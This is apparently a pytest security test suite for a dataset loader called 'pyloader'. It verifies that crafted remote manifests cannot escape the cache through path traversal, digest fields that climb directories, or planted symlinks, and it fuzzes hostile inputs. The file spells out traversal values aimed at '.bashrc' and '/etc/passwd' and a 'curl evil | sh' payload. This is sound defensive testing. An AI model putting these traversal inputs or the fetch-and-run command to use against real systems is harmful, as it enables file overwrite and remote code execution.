"""A manifest from a URL is hostile until checked (NOTE [untrusted manifest], NOTE [cache paths]).

Whatever a served manifest says, pyloader creates, changes and reads nothing outside its
cache and the dataset's URL, and the error is a pyloader error naming the entry.
"""

from __future__ import annotations

import errno
import hashlib
import os
import string
import subprocess
import sys

import fsspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from remote_servers import FaultServer
from remote_util import N_RECORDS, write_ds

import pyloader
from pyloader import _C
from pyloader.format.spec import MANIFEST_FORMAT, MANIFEST_VERSION, dump_manifest, parse_manifest
from pyloader.remote.cache import ShardCache
from pyloader.remote.fetch import open_remote

GOOD = {"path": "shard-000000.pyl", "records": 1, "bytes": 200, "xxh64": "0123456789abcdef"}


def manifest(shards: list, **extra) -> bytes:
    records = sum(s["records"] for s in shards if isinstance(s, dict) and type(s.get("records")) is int)
    body = {"format": MANIFEST_FORMAT, "version": MANIFEST_VERSION,
            "fields": [{"name": "x", "dtype": "uint8", "shape": []}], "records": records, "shards": shards}
    body.update(extra)
    return dump_manifest(body, _C.xxh64)


def snapshot(root: str, skip: str) -> dict[str, tuple]:
    """Every path under ``root`` except ``skip``'s tree: its kind, size, mtime and content digest."""
    out: dict[str, tuple] = {}
    for d, dirs, files in os.walk(root):
        if os.path.abspath(d).startswith(os.path.abspath(skip)):
            dirs[:] = []
            continue
        for n in dirs + files:
            p = os.path.join(d, n)
            if os.path.abspath(p) == os.path.abspath(skip):
                continue
            st_ = os.lstat(p)
            digest = ""
            if os.path.isfile(p) and not os.path.islink(p):
                with open(p, "rb") as f:
                    digest = hashlib.sha256(f.read()).hexdigest()
            out[p] = (st_.st_mode, st_.st_size, st_.st_mtime_ns, digest)
    return out


def inside(path: str, root: str) -> bool:
    return os.path.realpath(path).startswith(os.path.realpath(root) + os.sep)


# -- the rules, one at a time -------------------------------------------------------------
@pytest.mark.parametrize("path, why", [
    (".", "component '.'"), ("..", "component '..'"), ("a/./b", "component '.'"), ("a/../b", "component '..'"),
    ("a//b", "empty component"), ("a/", "empty component"), ("", "empty"), ("/etc/passwd", "absolute"),
    ("a\x00b", "NUL"), ("a\nb", "control"), ("a\x7fb", "control"), ("a\x85b", "control"), ("a\\b", "backslash"),
    ("x" * 256, "longer than 255 bytes"), ("\u00e9" * 128, "longer than 255 bytes"),
    ("d/" * 2048 + "x", "longer than 4096 bytes"), ("\ud800", "not valid Unicode"),
])
def test_unsafe_shard_paths_are_refused(path, why):
    with pytest.raises(pyloader.ManifestError, match="shard entry 1 has an unsafe path") as ei:
        parse_manifest(manifest([GOOD, dict(GOOD, path=path)]), "m", _C.xxh64)
    assert why in str(ei.value) and "'m'" in str(ei.value)


@pytest.mark.parametrize("entry, match", [
    ({"xxh64": "/../../../home/u/.bashrc"}, "not 16 lowercase hex digits"),
    ({"xxh64": "0123456789ABCDEF"}, "not 16 lowercase hex digits"),
    ({"xxh64": "0123456789abcde"}, "not 16 lowercase hex digits"),
    ({"xxh64": "0123456789abcdef0"}, "not 16 lowercase hex digits"),
    ({"bytes": 127}, "outside"), ({"bytes": (1 << 40) + 1}, "outside"),
    ({"records": 73}, "cannot fit"), ({"records": -1}, "cannot fit"),
    ({"records": True}, "lacks a valid 'records'"), ({"bytes": 200.0}, "lacks a valid 'bytes'"),
])
def test_digests_and_sizes_are_bounded(entry, match):
    with pytest.raises(pyloader.ManifestError, match=match):
        parse_manifest(manifest([GOOD, dict(GOOD, **entry)]), "m", _C.xxh64)


def test_valid_paths_still_parse():
    ok = [dict(GOOD, path=p) for p in ("a.pyl", "sub/dir/shard-1.pyl", "donn\u00e9es/\u00e9t\u00e9.pyl", "x" * 255,
                                       ".hidden", "a..b", "~x", "a b")]
    assert [s["path"] for s in parse_manifest(manifest(ok), "m", _C.xxh64)["shards"]] == [s["path"] for s in ok]


def test_content_hash_is_never_taken_from_a_dataset_manifest():
    data = manifest([GOOD], content_hash=False)
    with pytest.raises(pyloader.ManifestError, match='"content_hash" is not allowed'):
        parse_manifest(data, "m", _C.xxh64)
    assert parse_manifest(data, "m", _C.xxh64, identity=True)["content_hash"] is False
    with pytest.raises(pyloader.ManifestError, match="must be false"):
        parse_manifest(manifest([GOOD], content_hash=True), "m", _C.xxh64, identity=True)


def test_long_paths_get_one_bounded_cache_name(tmp_path):
    # 240 characters quote to 240..720: the cached name is shortened, stays one component.
    shards = [dict(GOOD, path="%" * 200 + "-" + str(i)) for i in range(2)] + [dict(GOOD, path="d/" + "y" * 240)]
    d = ShardCache(str(tmp_path / "c")).dataset("memory://long", manifest(shards))
    assert len(set(d.names)) == 3
    for i in range(3):
        name = os.path.basename(d.shard_file(i))
        assert name == d.names[i] and len(name.encode()) <= 255 and "/" not in name
        assert inside(d.shard_file(i), str(tmp_path / "c"))


# -- the crafted manifest that once overwrote a file, over a real server ------------------
def test_crafted_manifest_cannot_write_outside_the_cache(tmp_path):
    """The exploit: path "." and an xxh64 that climbs out, with the content check turned off."""
    home = tmp_path / "home"
    home.mkdir()
    victim = home / ".bashrc"
    victim.write_text("export PATH=/usr/bin\n")
    cache = tmp_path / "home" / ".cache" / "pyloader"
    cache.mkdir(parents=True)
    srv = tmp_path / "srv"
    ds = srv / "ds"
    ds.mkdir(parents=True)
    payload = b"PAR1" + b"curl evil | sh\n" * 20 + b"PAR1"
    (ds / "x").write_bytes(payload)
    depth = os.path.relpath(victim, cache / "v1" / "k" / "shards")
    crafted = [(".", "/../" + depth), ("x", "0123456789abcdef/../../../../" + depth),
               ("../../home/.bashrc", "0123456789abcdef")]
    for (path, digest), extra in [(c, e) for c in crafted for e in ({"content_hash": False}, {})]:
        entry = {"path": path, "records": 1, "bytes": len(payload), "xxh64": digest}
        (ds / "manifest.json").write_bytes(manifest([entry], **extra))
        before = snapshot(str(tmp_path), str(cache))
        with FaultServer(str(srv), max_life=60) as s:
            with pytest.raises(pyloader.ManifestError, match="content_hash" if extra else "shard entry 0") as ei:
                open_remote(s.url + "/ds", cache_dir=str(cache))
        assert s.url + "/ds/manifest.json" in str(ei.value)
        assert snapshot(str(tmp_path), str(cache)) == before
        assert victim.read_text() == "export PATH=/usr/bin\n"
        # Not even the node's copy of the manifest is kept: the next open fetches and refuses it again.
        assert not [f for _, _, fs in os.walk(cache) for f in fs if f == "manifest.json"]


def test_content_check_stays_on_for_a_served_manifest(tmp_path):
    """With every entry valid, "content_hash": false in a served manifest is refused at once."""
    root = str(tmp_path / "srv")
    write_ds(os.path.join(root, "ds"))
    mpath = os.path.join(root, "ds", "manifest.json")
    with open(mpath, "rb") as f:
        body = parse_manifest(f.read(), mpath, _C.xxh64)
    body["content_hash"] = False
    with open(mpath, "wb") as f:
        f.write(dump_manifest(body, _C.xxh64))
    with FaultServer(root, max_life=60) as s:
        with pytest.raises(pyloader.ManifestError, match='"content_hash" is not allowed'):
            pyloader.ShardDataset(s.url + "/ds", cache_dir=str(tmp_path / "cache"))


# -- links planted in a shared cache ----------------------------------------------------
def test_links_planted_in_the_cache_are_not_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    target = outside / "target"
    target.write_bytes(b"keep me")
    fs = fsspec.filesystem("memory")
    fs.store.clear()
    data = b"\x00" * 200
    fs.pipe("/links/shard-000000.pyl", data)
    cache = ShardCache(str(tmp_path / "c"))
    d = cache.dataset("memory://links", manifest([dict(GOOD, xxh64=f"{_C.xxh64(data):016x}")]))
    # A lock file that is a link to a file outside: refused, the target untouched.
    lock = os.path.join(d.dir, "locks", d.names[0] + ".lock")
    os.symlink(target, lock)
    with pytest.raises(pyloader.CacheError, match="symbolic link") as ei:
        d.ensure(0)
    assert lock in str(ei.value) and target.read_bytes() == b"keep me"
    os.unlink(lock)
    # A published name that is a link is not a published shard: the download replaces the link itself.
    os.symlink(target, d.shard_file(0))
    assert not d.is_published(0)
    path, fetched = d.ensure(0)
    with open(path, "rb") as f:
        assert fetched and not os.path.islink(path) and f.read() == data
    assert target.read_bytes() == b"keep me"
    # A directory of the dataset replaced by a link to a folder outside: refused before any write.
    d2 = cache.dataset("memory://links", manifest([dict(GOOD, xxh64=f"{_C.xxh64(data):016x}")]))
    os.rename(os.path.join(d2.dir, "tmp"), str(tmp_path / "old-tmp"))
    os.symlink(outside, os.path.join(d2.dir, "tmp"))
    with pytest.raises(pyloader.CacheError, match="symbolic link"):
        d2.store_manifest()
    assert sorted(os.listdir(outside)) == ["target"]


def test_a_failed_metadata_write_names_the_path(tmp_path):
    """A write of a new dataset's manifest copy that fails (here: a file-size limit, as a full disk
    fails it) is a CacheError naming the path and the cause, not a bare OSError."""
    code = (
        "import resource, signal, sys\n"
        "import pyloader\n"
        "from pyloader.remote.cache import ShardCache\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (16, 16))\n"
        "try:\n"
        "    ShardCache(sys.argv[1]).dataset('memory://full', open(sys.argv[2], 'rb').read())\n"
        "except pyloader.CacheError as e:\n"
        "    print(type(e).__name__, e.errno, e)\n"
    )
    mfile = tmp_path / "m.json"
    mfile.write_bytes(manifest([GOOD]))
    out = subprocess.run([sys.executable, "-c", code, str(tmp_path / "c"), str(mfile)], capture_output=True,
                         text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith(f"CacheError {errno.EFBIG} memory://full: cannot write "), out.stdout
    assert os.path.join(str(tmp_path / "c"), "v1") in out.stdout and "manifest.json" in out.stdout
    assert not [f for _, _, fs in os.walk(tmp_path / "c") for f in fs if f.endswith(".part")]


# -- the fuzz ------------------------------------------------------------------------------
_HOSTILE_PATHS = [".", "..", "../x", "a/../../x", "/etc/passwd", "a//b", "a/", "\\x", "a\x00b", "x" * 300,
                  "%2e%2e/x", "....", "~", "a/./b"]
_HOSTILE_DIGESTS = ["/../../../victim", "../victim", "0123456789ABCDEF", "", "0" * 15, "0" * 17, "..", "/",
                    "0123456789abcdef/../../x"]
_TEXT = st.text(alphabet=string.ascii_letters[:6] + "./\\%~\x00\n\x85\u00e9-_", max_size=40)
_valid_entries = st.lists(st.tuples(st.from_regex(r"[a-z]{1,6}(/[a-z0-9_-]{1,8}){0,2}\.pyl", fullmatch=True),
                                    st.integers(128, 600), st.integers(0, 3), st.booleans()),
                          max_size=4, unique_by=lambda e: e[0])
# At most one field of one entry (or the entry itself) made hostile, so about half of the
# manifests pass and their downloads run, publish or fail.
_hostile = st.one_of(
    st.tuples(st.just("path"), st.one_of(st.sampled_from(_HOSTILE_PATHS), _TEXT)),
    st.tuples(st.just("xxh64"), st.one_of(st.sampled_from(_HOSTILE_DIGESTS),
                                          st.text(alphabet="0123456789abcdefABCDEF/.", max_size=20))),
    st.tuples(st.sampled_from(["bytes", "records"]),
              st.one_of(st.integers(-(1 << 64), 1 << 64), st.booleans(), st.floats(allow_nan=False),
                        st.text(max_size=3), st.none())),
    st.tuples(st.just("entry"), st.one_of(st.integers(), st.text(max_size=3), st.none())),
)
_manifests = st.tuples(_valid_entries, st.one_of(st.none(), st.tuples(st.integers(0, 3), _hostile)),
                       st.sampled_from(["absent", "absent", "absent", False, True, "no"]),
                       st.sampled_from([True, True, True, False]))


@settings(max_examples=150, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(case=_manifests)
def test_fuzzed_manifests_stay_inside_the_cache(tmp_path, case):
    valid, mutation, content_hash, right_total = case
    fs = fsspec.filesystem("memory")
    fs.store.clear()
    fs.pseudo_dirs.clear()
    fs.pseudo_dirs.append("")
    shards: list = []
    for path, size, records, matches in valid:  # served bytes; the digest matches them or not
        payload = b"PAR1" + bytes([len(shards)]) * (size - 8) + b"PAR1"
        fs.pipe("/fz/" + path, payload)
        digest = _C.xxh64(payload) if matches else _C.xxh64(payload) ^ 1
        shards.append({"path": path, "records": records, "bytes": size, "xxh64": f"{digest:016x}"})
    if mutation is not None and shards:
        i, (key, value) = mutation[0] % len(shards), mutation[1]
        if key == "entry":
            shards[i] = value
        else:
            shards[i][key] = value
    extra = {} if content_hash == "absent" else {"content_hash": content_hash}
    if not right_total:
        extra["records"] = 7
    fs.pipe("/fz/manifest.json", manifest(shards, **extra))
    if mutation is not None and mutation[1][0] == "path" and isinstance(mutation[1][1], str):
        try:  # something to read there too, should the path be taken
            fs.pipe("/fz/" + mutation[1][1], b"PAR1" + b"\x00" * 192 + b"PAR1")
        except Exception:
            pass
    cache = str(tmp_path / "cache")
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "victim").write_bytes(b"keep me")
    before = snapshot(str(tmp_path), cache)
    try:
        d = open_remote("memory://fz", cache_dir=cache)
        for i in range(len(d.shards)):
            assert inside(d.shard_file(i), cache)
            assert d.shard_url(i).startswith("memory://fz/") and ".." not in d.shard_url(i).split("/")
            try:
                d.ensure(i)
            except pyloader.PyloaderError:
                pass
    except pyloader.PyloaderError:
        pass
    assert snapshot(str(tmp_path), cache) == before
    for root, dirs, files in os.walk(cache):
        for n in dirs + files:
            p = os.path.join(root, n)
            assert not os.path.islink(p) and inside(p, cache)
    assert not [f for _, _, fs_ in os.walk(cache) for f in fs_ if f.endswith(".part")]


def test_a_linked_manifest_lock_is_refused(tmp_path):
    """The node's manifest lock (NOTE [manifest once per node]) is opened like every lock file: never through a link."""
    from pyloader.remote.cache import dataset_key

    outside = tmp_path / "outside"
    outside.mkdir()
    fs = fsspec.filesystem("memory")
    fs.store.clear()
    fs.pipe("/mlock/manifest.json", manifest([GOOD]))
    locks = tmp_path / "c" / "v1" / dataset_key("memory://mlock") / "locks"
    locks.mkdir(parents=True)
    os.symlink(outside / "target", locks / "manifest.json.lock")
    with pytest.raises(pyloader.CacheError, match="symbolic link") as ei:
        open_remote("memory://mlock", cache_dir=str(tmp_path / "c"))
    assert str(locks / "manifest.json.lock") in str(ei.value)
    assert os.listdir(outside) == []


@pytest.mark.timeout(60)
@pytest.mark.parametrize("ttl", ["0", "3600"])
def test_a_link_planted_at_the_node_manifest_copy_is_never_followed(server, cache_dir, tmp_path, monkeypatch, ttl):
    """docs/security.md: pyloader follows no link planted in its cache. The node's manifest
    copy is read, refreshed (mtime) and replaced without following one: a file the link
    names, outside the cache, is neither read as the manifest nor touched nor written."""
    import glob

    url = server.url + "/ds"
    pyloader.ShardDataset(url, cache_dir=cache_dir)
    (copy,) = glob.glob(os.path.join(cache_dir, "v1", "*", "manifest.json"))
    outside = tmp_path / "outside.json"
    with open(copy, "rb") as f:
        outside.write_bytes(f.read())  # a valid manifest: following the link would read it as the copy
    os.utime(outside, (1_000_000, 1_000_000))
    os.unlink(copy)
    os.symlink(outside, copy)
    monkeypatch.setenv("PYLOADER_MANIFEST_TTL", ttl)
    before = server.count("ds/manifest.json")
    ds = pyloader.ShardDataset(url, cache_dir=cache_dir)
    assert ds.num_records == N_RECORDS
    assert server.count("ds/manifest.json") == before + 1  # fetched: the link is not a copy
    assert not os.path.islink(copy) and os.path.isfile(copy)  # replaced by a real file
    assert os.stat(outside).st_mtime == 1_000_000  # not touched through the link
